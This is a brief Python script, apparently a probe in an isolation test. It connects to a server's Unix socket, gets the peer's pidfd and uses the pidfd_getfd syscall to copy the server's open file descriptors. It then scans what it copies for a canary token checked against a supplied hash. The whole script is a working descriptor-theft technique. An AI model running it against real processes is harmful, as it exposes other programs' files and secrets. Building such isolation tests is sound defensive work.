"""Takes an open file of the server: its socket tells the pidfd of who is at the other end, in any pid namespace."""

import contextlib
import ctypes
import hashlib
import json
import os
import re
import socket
import sys

PEERPIDFD, PIDFD_GETFD, MOST = 77, 438, 64
facts = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
with socket.socket(socket.AF_UNIX) as sock, contextlib.suppress(OSError):
    sock.connect(facts["socket"])
    pidfd = sock.getsockopt(socket.SOL_SOCKET, PEERPIDFD)
    for number in range(MOST):
        fd = libc.syscall(PIDFD_GETFD, pidfd, number, 0)
        if fd < 0:
            continue
        with contextlib.suppress(OSError):
            words = re.findall(rb"canary-[0-9a-f]{32}", os.pread(fd, 4096, 0))
            if any(hashlib.sha256(word).hexdigest() == facts["digest"] for word in words):
                print(f"succeeded: took descriptor {number} of the server")
                break
